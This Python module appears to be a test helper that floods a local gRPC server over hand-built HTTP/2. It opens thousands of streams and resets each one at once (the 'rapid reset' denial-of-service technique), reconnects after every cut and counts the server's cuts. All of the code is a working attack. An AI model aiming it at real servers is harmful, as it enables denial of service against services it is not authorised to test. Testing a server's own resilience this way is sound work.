"""Connections that speak HTTP/2 by hand, to do what no client's library does: streams that are reset at once."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import struct
from collections.abc import Mapping
from dataclasses import dataclass, field

__all__ = ["Flood", "RawConnection"]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_CANCEL = 8


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def _text(value: str) -> bytes:
    """A string as HPACK has it, without Huffman's code."""
    raw = value.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, length = len(raw) - 127, bytearray([127])
    while rest > 127:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes([*length, rest]) + raw


def _block(headers: Mapping[str, str]) -> bytes:
    """Headers as HPACK has them, none of them remembered."""
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in headers.items())


class RawConnection:
    """One connection to a gRPC port, whose streams are opened by hand.

    Args:
        method: ``/service/method``, which each stream calls.
        key: The API key that each shows.
        message: The request of streams that send one.
    """

    def __init__(self, method: str, key: str, message: bytes = b"") -> None:
        self._head = _block(
            {
                ":method": "POST",
                ":scheme": "http",
                ":path": method,
                ":authority": "localhost",
                "content-type": "application/grpc",
                "te": "trailers",
                "authorization": f"Bearer {key}",
            }
        )
        self._body = struct.pack(">BI", 0, len(message)) + message
        self._next_id = 1
        self._ended = asyncio.Event()
        self.is_open = False

    async def open(self, port: int, tls: ssl.SSLContext | None = None, *, source: str = "127.0.0.1") -> None:
        """Connect.

        Args:
            port: Of the server.
            tls: What to trust; None to speak plain.
            source: The address to come from, one of this machine.
        """
        self._reader, self._writer = await asyncio.open_connection("127.0.0.1", port, ssl=tls, local_addr=(source, 0))
        self._writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        self._listening = asyncio.create_task(self._listen())
        self.is_open = True

    async def reset_at_once(self, streams: int, *, with_request: bool = False) -> None:
        """Open streams, and reset each before the next.

        Raises:
            ConnectionError: The server has cut the connection.
        """
        sent = bytearray()
        for _ in range(streams):
            sent += _frame(_HEADERS, _END_HEADERS, self._next_id, self._head)
            if with_request:
                sent += _frame(_DATA, _END_STREAM, self._next_id, self._body)
            sent += _frame(_RST_STREAM, 0, self._next_id, struct.pack(">I", _CANCEL))
            self._next_id += 2
        if not self.is_open:
            raise ConnectionResetError
        self._writer.write(sent)
        await self._writer.drain()

    async def call(self, calls: int) -> None:
        """Send whole requests, and leave their answers unread.

        Raises:
            ConnectionError: The server has cut the connection.
        """
        sent = bytearray()
        for _ in range(calls):
            sent += _frame(_HEADERS, _END_HEADERS, self._next_id, self._head)
            sent += _frame(_DATA, _END_STREAM, self._next_id, self._body)
            self._next_id += 2
        if not self.is_open:
            raise ConnectionResetError
        self._writer.write(sent)
        await self._writer.drain()

    async def ended(self) -> None:
        """Wait until the server has ended the connection."""
        await self._ended.wait()

    async def close(self) -> None:
        self._writer.transport.abort()
        self._listening.cancel()
        await asyncio.wait([self._listening])

    async def _listen(self) -> None:
        """Answer what must be answered for the connection to be kept."""
        try:
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3]))
                if head[3] in (_SETTINGS, _PING) and not head[4] & _ACK:
                    self._writer.write(_frame(head[3], _ACK, 0, payload if head[3] == _PING else b""))
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            self.is_open = False
            self._ended.set()


@dataclass
class Flood:
    """Many connections that do nothing but open streams and reset them; whichever is cut comes back at once.

    Attributes:
        resets: Streams opened and reset so far.
        cuts: Connections that the server has ended so far.
    """

    port: int
    method: str
    key: str
    message: bytes = b""
    connections: int = 4
    streams: int = 2_000
    with_request: bool = False
    source: str = "127.0.0.1"
    resets: int = field(default=0, init=False)
    cuts: int = field(default=0, init=False)

    async def run(self) -> None:
        """Flood until cancelled."""
        async with asyncio.TaskGroup() as group:
            for _ in range(self.connections):
                group.create_task(self._attack())

    async def _attack(self) -> None:
        while True:
            connection = RawConnection(self.method, self.key, self.message)
            with contextlib.suppress(ConnectionError):
                await connection.open(self.port, source=self.source)
                try:
                    while True:
                        await connection.reset_at_once(self.streams, with_request=self.with_request)
                        self.resets += self.streams
                        await asyncio.sleep(0)
                finally:
                    await connection.close()
            self.cuts += 1
